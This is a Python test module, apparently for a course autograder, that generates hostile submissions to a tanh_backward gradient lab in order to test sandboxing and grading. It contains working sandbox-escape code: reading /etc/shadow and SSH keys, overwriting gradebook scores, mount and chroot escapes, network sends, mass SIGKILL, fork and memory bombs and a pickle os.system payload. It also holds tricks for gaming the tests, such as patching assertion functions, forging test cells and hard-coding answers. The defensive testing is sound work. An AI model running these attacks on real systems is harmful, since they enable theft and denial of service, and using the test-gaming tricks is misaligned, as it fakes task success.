"""Hostile submissions to a small by-hand gradient lab, written as an attacker would write them.

The lab (:func:`gradient_lab`) asks for ``tanh_backward`` and checks it three ways. Its solution
and one honest student's submission carry canary strings, so that reading either shows up in
what a kernel prints. Every attack is a wrong ``tanh_backward`` plus code run in the answer cell;
each attempt prints ``TRIED <name>`` and then ``LEAK <name> ...`` if it got anywhere.

- :func:`escapes`: ways out of the sandbox (files, mounts, /proc, the network, signals, the
  environment, the grader's own files, fork and memory bombs), each told every absolute path
  an attacker could want;
- :func:`tricks`: ways around the tests inside the kernel (edited or forged test cells,
  patched checkers and builtins, exits, hard-coded answers, autograd inside the by-hand
  function, forged records).
"""

from __future__ import annotations

import copy
import secrets
import textwrap
from pathlib import Path

import nbformat

from instructor.commands.authoring import code, markdown, notebook, solution, tests

LAB = "tamper"
SOLUTION_CANARY = "solution-canary-" + secrets.token_hex(6)
SUBMISSION_CANARY = "submission-canary-" + secrets.token_hex(6)
HOME_CANARY = "home-canary-" + secrets.token_hex(6)

SETUP = '''
import torch
from lab_utils import check_gradients


def assert_close(actual, expected, what):
    """Fail with a message saying what differs."""
    torch.testing.assert_close(actual, expected, rtol=1e-5, atol=1e-7,
                               msg=lambda m: f"{what} differs from autograd: {m}")


def autograd_reference(x, grad_out):
    """The gradient of sum(grad_out * tanh(x)) from autograd."""
    x = x.detach().clone().requires_grad_(True)
    torch.tanh(x).backward(grad_out)
    return x.grad


def by_hand(fn, *args):
    """Call fn with autograd unable to save anything: a by-hand backward does not need it."""
    def refuse(_):
        raise RuntimeError("tanh_backward must compute the gradient by hand, not with autograd")
    with torch.autograd.graph.saved_tensors_hooks(refuse, refuse):
        return fn(*args)
'''

ANSWER = f'''
def tanh_backward(x, grad_out):
    """d/dx of sum(grad_out * tanh(x)), by hand; x and grad_out have one shape."""
    ### BEGIN SOLUTION
    # {SOLUTION_CANARY}
    return grad_out * (1 - torch.tanh(x) ** 2)
    ### END SOLUTION
'''

TEST_CLOSE = '''
"""tanh_backward agrees with autograd (torch.testing.assert_close)."""
x, g = torch.tensor([0.0, 0.5, -1.0]), torch.ones(3)
assert_close(by_hand(tanh_backward, x, g), autograd_reference(x, g), "tanh_backward")
### BEGIN HIDDEN TESTS
torch.manual_seed(7)
xh, gh = torch.randn(5, 3, dtype=torch.float64), torch.randn(5, 3, dtype=torch.float64)
assert_close(by_hand(tanh_backward, xh, gh), autograd_reference(xh, gh), "tanh_backward (batch)")
### END HIDDEN TESTS
'''

TEST_CHECKER = '''
"""tanh_backward passes torch.allclose and the kit's gradient checker."""
x, g = torch.linspace(-2, 2, 7), torch.full((7,), 0.5)
assert torch.allclose(by_hand(tanh_backward, x, g), autograd_reference(x, g), atol=1e-6), \\
    "tanh_backward differs from autograd"
### BEGIN HIDDEN TESTS
xh = torch.linspace(-3, 1, 9, dtype=torch.float64)
gh = torch.linspace(1, 2, 9, dtype=torch.float64)
report = check_gradients({"x": by_hand(tanh_backward, xh, gh)}, {"x": autograd_reference(xh, gh)},
                         verbose=False)
### END HIDDEN TESTS
'''

WRONG = "def tanh_backward(x, grad_out):\n    return grad_out * (1 - x ** 2)\n"
RIGHT = f"def tanh_backward(x, grad_out):\n    # {SUBMISSION_CANARY}\n    return grad_out * (1 - torch.tanh(x) ** 2)\n"


def gradient_lab() -> nbformat.NotebookNode:
    """The lab: one by-hand gradient (declared ``by_hand``), two test cells worth 2 points each."""
    answer = solution(ANSWER, "tanh_backward")
    answer.metadata["kit"] = {"rules": ["by_hand"]}
    return notebook([
        markdown("# Tamper lab\nOne by-hand gradient, checked three ways.", "intro"),
        code(SETUP, "setup"),
        answer,
        tests(TEST_CLOSE, "test_assert_close", points=2),
        tests(TEST_CHECKER, "test_allclose_and_checker", points=2),
    ])


def _attempt(name: str, body: str) -> str:
    """One attempt: prints TRIED, and LEAK with what it got when ``body`` sets ``got``."""
    return (f"try:\n    got = None\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
            f"except BaseException as error:\n    got = None\n"
            f"print('TRIED {name}')\nif got:\n    print('LEAK {name}', repr(got)[:300])\n")


def _attack(release, *attempts: str, body: str = WRONG):
    cell = "import os, glob, json, socket, ctypes, signal, sqlite3\n" + "".join(attempts)
    return with_solution(release, cell + body, "tanh_backward")


def with_solution(release, source: str, grade_id: str):
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
    return nb


def escapes(release, *, course: Path, home: Path, scratch: Path, port: int) -> dict[str, tuple]:
    """student -> (submission, attempt names it must report as TRIED). ``course`` is the course
    root (the attacker knows every path), ``home`` a folder standing for the grading user's home
    (it holds ``.ssh/id_ed25519`` with the home canary), ``scratch`` the grader's temporary
    folder (its run folders are ``kit-grade-*`` there), ``port`` a TCP port on the host's
    loopback that must never see a connection."""
    solution_nb = course / "solutions" / LAB / f"{LAB}.ipynb"
    victim = course / "submitted" / "honest" / LAB / f"{LAB}.ipynb"
    gradebook = course / "gradebook.db"
    canaries = (SOLUTION_CANARY, SUBMISSION_CANARY, HOME_CANARY)
    read_files = _attempt("read_files", f'''
        found = []
        paths = [{str(solution_nb)!r}, {str(victim)!r}, {str(gradebook)!r},
                 {str(home / ".ssh" / "id_ed25519")!r}, "/etc/shadow", "/root/.ssh/id_rsa",
                 "/root/.bash_history", os.path.expanduser("~/.bash_history")]
        paths += glob.glob({str(scratch)!r} + "/kit-grade-*/**/*.ipynb", recursive=True)
        paths += glob.glob({str(scratch)!r} + "/kit-grade-*/**/*.db", recursive=True)
        paths += glob.glob("/home/*/.ssh/*") + glob.glob("/*/solutions/**/*.ipynb", recursive=True)
        for top, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev")]
            paths += [os.path.join(top, f) for f in files if f.endswith((".ipynb", ".db"))]
        for path in paths:
            try:
                text = open(path, errors="ignore").read()
            except OSError:
                continue
            found += [c for c in {canaries!r} if c in text]
            if "root:" in text and "shadow" in path:
                found.append(path)
        got = sorted(set(found))
    ''')
    write_files = _attempt("write_files", f'''
        written = []
        targets = [{str(gradebook)!r}, {str(victim)!r}, {str(solution_nb)!r},
                   {str(course / "grading" / LAB / "results.json")!r},
                   {str(course / "autograded" / "honest" / LAB / f"{LAB}.ipynb")!r}]
        targets += glob.glob({str(scratch)!r} + "/kit-grade-*/**/report.json", recursive=True)
        targets += glob.glob({str(scratch)!r} + "/kit-grade-*/**/gradebook.db", recursive=True)
        for path in targets:
            try:
                with open(path, "a") as f:
                    f.write("tampered")
                written.append(path)
            except OSError:
                pass
        try:
            with sqlite3.connect({str(gradebook)!r}) as con:
                con.execute("UPDATE grade SET auto_score = 100")
            written.append("gradebook rows")
        except Exception:
            pass
        got = written
    ''')
    mounts = _attempt("mounts", '''
        libc = ctypes.CDLL(None, use_errno=True)
        done = []
        if libc.mount(None, b"/", None, 32 | 4096 | 16384, None) == 0:   # remount, bind, rec
            done.append("remount /")
        if libc.umount2(b"/home/student/work", 2) == 0:
            done.append("umount work")
        if libc.unshare(0x00020000 | 0x10000000) == 0:                   # new mount+user ns
            done.append("unshare")
        if libc.chroot(b"/proc/1/root") == 0 and os.listdir("/") != []:
            done.append("chroot")
        got = done
    ''')
    processes = _attempt("processes", '''
        seen = []
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            for what in ("cmdline", "environ"):
                try:
                    text = open(f"/proc/{pid}/{what}", "rb").read().decode(errors="ignore")
                except OSError:
                    continue
                if any(w in text for w in ("nbgrader", "instructor", "KIT_", "kit-grade")):
                    seen.append((pid, what))
            try:
                if os.listdir(f"/proc/{pid}/root/") != os.listdir("/"):
                    seen.append((pid, "root"))
            except OSError:
                pass
        got = seen
    ''')
    network = _attempt("network", f'''
        reached = []
        for host, port in [("127.0.0.1", {port}), ("::1", {port}), ("10.0.2.2", {port}),
                           ("1.1.1.1", 53), ("8.8.8.8", 443)]:
            try:
                with socket.create_connection((host, port), timeout=2) as s:
                    s.sendall(b"stolen")
                reached.append((host, port))
            except OSError:
                pass
        got = reached
    ''')
    environment = _attempt("environment", f'''
        text = json.dumps(dict(os.environ)) + os.getcwd()
        got = [w for w in ({str(course)!r}, "KIT_", "kit-grade", "solutions", "gradebook",
                            "JUPYTER") if w in text]
    ''')
    signals = _attempt("signals", '''
        hit = []
        own = {int(tid) for tid in os.listdir("/proc/self/task")}  # a thread's id kills us
        for pid in range(2, 4000):
            if pid == os.getpid() or pid in own:
                continue
            try:
                os.kill(pid, signal.SIGKILL)
                hit.append(pid)
            except OSError:
                pass
        got = [p for p in hit if p > 2]
    ''')
    bombs = _attempt("fork_bomb", '''
        children = 0
        for _ in range(2000):
            if os.fork() == 0:
                os._exit(0)
            children += 1
        got = children
    ''') + _attempt("thread_bomb", '''
        import threading, time
        threading.stack_size(64 * 1024)
        started = 0
        try:
            for _ in range(20000):
                threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
                started += 1
        finally:
            print("threads started:", started)
        got = None
    ''') + _attempt("memory_bomb", '''
        hoard = []
        while True:
            hoard.append(bytearray(256 * 1024 * 1024))
    ''')
    forged = _attempt("forge_records", '''
        import pickle
        class Payload:
            def __reduce__(self):
                return (os.system, ("touch /tmp/kit-pwned-by-record",))
        code = "__import__('os').system('touch /tmp/kit-pwned-by-record')"  # if ever eval'ed
        for test, name, data in (("test_assert_close", "0.pt", pickle.dumps(Payload())),
                                 ("test_allclose_and_checker", "0.txt", code.encode())):
            os.makedirs(f".kit-record/{test}", exist_ok=True)
            with open(f".kit-record/{test}/{name}", "wb") as f:
                f.write(data)
            os.chmod(f".kit-record/{test}", 0o500)   # the recorder cannot replace it now
        got = None
    ''')
    return {
        "honest": (with_solution(release, RIGHT, "tanh_backward"), []),
        # one after another in one kernel (each in its own try), the mount tricks last: had one
        # changed the kernel's root, the attempts before it saw the sandbox as it was given
        "escape_everything": (_attack(release, read_files, write_files, network, environment,
                                      forged, processes, mounts),
                              ["read_files", "write_files", "network", "environment",
                               "forge_records", "processes", "mounts"]),
        "escape_signals": (_attack(release, signals), ["signals"]),
        "kill_everything": (_attack(release, "for pid in (-1, os.getppid(), 1, os.getpid()):\n"
                                    "    try:\n        os.kill(pid, signal.SIGKILL)\n"
                                    "    except OSError:\n        pass\n"), []),
        "escape_bombs": (_attack(release, bombs), ["fork_bomb", "thread_bomb", "memory_bomb"]),
    }


HARD_CODED = '''
def tanh_backward(x, grad_out):
    known = {(0.0, 0.5, -1.0): [1.0, 0.7864477, 0.4199743]}
    key = tuple(round(v, 4) for v in x.flatten().tolist())
    if key in known:
        return torch.tensor(known[key], dtype=x.dtype)
    if x.numel() == 7:
        return grad_out * (1 - torch.tanh(x) ** 2)
    return torch.zeros_like(x)
'''


def tricks(release) -> dict:
    """student -> submission: ways around the tests inside the kernel; none may earn a point."""
    def trick(prefix: str, body: str = WRONG):
        return with_solution(release, prefix.strip("\n") + "\n" + body, "tanh_backward")

    def edited(keep_metadata: bool):
        nb = copy.deepcopy(trick(""))
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution"):
                cell.source = "assert True"
                if not keep_metadata:
                    del cell.metadata["nbgrader"]
        return nb

    deleted = copy.deepcopy(trick(""))
    deleted.cells = [c for c in deleted.cells if not c.metadata.get("nbgrader", {}).get("points")]
    forged = copy.deepcopy(trick(""))
    forged.cells.append(nbformat.v4.new_code_cell("tanh_backward"))
    forged.cells[-1].metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True,
                                             "points": 100, "schema_version": 3,
                                             "solution": False, "task": False}
    return {
        "edit_test_cells": edited(keep_metadata=True),
        "unmark_test_cells": edited(keep_metadata=False),
        "delete_test_cells": deleted,
        "forge_test_cell": forged,
        "redefine_assert_helper": trick("def assert_close(*args, **kwargs):\n    pass"),
        "patch_allclose": trick("torch.allclose = lambda *a, **k: True"),
        "patch_assert_close": trick("torch.testing.assert_close = lambda *a, **k: None"),
        "patch_lab_utils_checker": trick(
            "import lab_utils, lab_utils.checking\nlab_utils.check_gradients = "
            "lab_utils.checking.check_gradients = lambda *a, **k: None\n"
            "check_gradients = lab_utils.check_gradients\n"
            "torch.testing.assert_close = lambda *a, **k: None\ntorch.allclose = lambda *a, **k: True"),
        "patch_tensor_methods": trick(
            "torch.Tensor.__sub__ = lambda self, other: torch.zeros_like(self)\n"
            "torch.Tensor.abs = lambda self: torch.zeros_like(self)\n"
            "torch.testing.assert_close = lambda *a, **k: None"),
        "always_equal_result": trick("", "class Anything(torch.Tensor):\n"
                                     "    def __eq__(self, other):\n        return True\n"
                                     "def tanh_backward(x, grad_out):\n"
                                     "    return torch.zeros_like(x).as_subclass(Anything)\n"),
        "hard_coded_visible": trick("", HARD_CODED),
        "autograd_backward_inside": trick("", "def tanh_backward(x, grad_out):\n"
                                          "    with torch.enable_grad():\n"
                                          "        x = x.detach().requires_grad_(True)\n"
                                          "        torch.tanh(x).backward(grad_out)\n"
                                          "    return x.grad\n"),
        "autograd_in_a_thread": trick("", "import threading\n"
                                      "def tanh_backward(x, grad_out):\n"
                                      "    out = {}\n"
                                      "    def work():\n"
                                      "        y = x.detach().requires_grad_(True)\n"
                                      "        out['g'], = torch.autograd.grad(torch.tanh(y), y, grad_out)\n"
                                      "    t = threading.Thread(target=work)\n"
                                      "    t.start(); t.join()\n"
                                      "    return out['g']\n"),
        "catch_every_exception": trick(
            "import sys\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
            "sys.excepthook = lambda *a: None"),
        "remove_guard_then_patch": trick(
            "for hooks in get_ipython().events.callbacks.values():\n    hooks.clear()\n"
            "import sys\nsys.modules.pop('kernel_side', None)\n"
            "torch.testing.assert_close = lambda *a, **k: None\ntorch.allclose = lambda *a, **k: True\n"
            "def assert_close(*a, **k):\n    pass"),
        "disable_the_recorder": trick(
            "import sys, types\nfake = types.ModuleType('kernel_side')\n"
            "fake.locked_cell = lambda *a, **k: None\nsys.modules['kernel_side'] = fake\n"
            "torch.testing.assert_close = lambda *a, **k: None\ntorch.allclose = lambda *a, **k: True\n"),
        "sys_exit": trick("", WRONG + "import sys\nsys.exit(0)\n"),
        "os_exit": trick("", WRONG + "import os\nos._exit(0)\n"),
    }
